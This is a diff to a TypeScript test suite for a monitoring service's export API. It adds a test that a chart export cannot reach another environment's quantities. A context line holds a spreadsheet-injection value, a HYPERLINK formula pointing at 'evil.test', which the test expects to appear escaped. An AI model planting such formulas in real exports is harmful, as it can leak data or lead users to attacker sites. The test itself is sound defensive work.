@@ -272,3 +272,27 @@ describe('exports: cells a spreadsheet would run as formulas', () => {
     expect(cellsOf(csv)[1].slice(5)).toEqual([added.body.hashId, '\'=HYPERLINK("http://evil.test/?y","x")', "'-2+3", '7']);
   });
 });
+
+describe('exports: scope', () => {
+  it('a chart export answers another environment\'s quantity exactly as one that does not exist; a quantity measured on the pin is the environment\'s to export', async () => {
+    const a = await api.login('monitoring', RIGHTS);
+    const b = await api.login('monitoring', RIGHTS);
+    const pinB = await pinWithHistory(api.ctx.db, b, [1]);
+    const quantityOfA = await ownQuantity(a, 'Secret', 'V');
+    const chart = (quantityHashId: string) => b.request<ErrorBody>('POST', '/settings/export', {
+      content: { type: 'chart', from: '2020-01-01T00:00:00Z', to: '2030-01-01T00:00:00Z', series: [{ pinHashId: pinB, quantityHashId }], title: 't' }, delimiter: ',', rowDelimiter: '\n',
+    });
+    const theirs = await chart(quantityOfA);
+    const none = await chart('nosuchquantity');
+    expectParameterError(theirs, 'content.series[0].quantityHashId');
+    expect([theirs.status, theirs.body.key, theirs.body.message.replace(quantityOfA, 'Q')]).toEqual([none.status, none.body.key, none.body.message.replace('nosuchquantity', 'Q')]);
+    expect(await findAll(b, '/settings/export')).toEqual([]);
+
+    // a supplier's quantity the pin's measurements carry (a claimed device's) is one b may chart, so export
+    const supplier = await api.login('connectivity');
+    const supplied = (await supplier.request<{ hashId: string }>('POST', '/quantity/', { name: 'Current', unit: 'A' })).body.hashId;
+    await measure(pinB, supplied, 12, 0, new Date(Date.now() - DAY));
+    const hashId = await addExport(b, { type: 'chart', from: '2020-01-01T00:00:00Z', to: '2030-01-01T00:00:00Z', series: [{ pinHashId: pinB, quantityHashId: supplied }], title: 't' });
+    expect(linesOf((await download((await available(b, hashId)).downloadUrl!)).body).slice(1).map((r) => [r[5], r[8]])).toEqual([[supplied, '12']]);
+  });
+});
